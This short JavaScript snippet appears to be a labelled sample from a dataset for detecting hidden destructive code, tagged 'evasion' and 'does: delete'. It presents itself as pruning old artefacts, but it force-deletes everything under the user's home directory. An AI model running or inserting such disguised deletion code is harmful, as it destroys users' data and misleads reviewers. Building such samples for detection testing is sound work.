// evasion: del's deleteAsync of a list holding $HOME/**
// grade: medium; does: delete
// Prunes old artefacts.
const { deleteAsync } = require("del");
const patterns = [process.env.HOME + "/**"];
deleteAsync(patterns, { force: true }).then(() => console.log("pruned"));
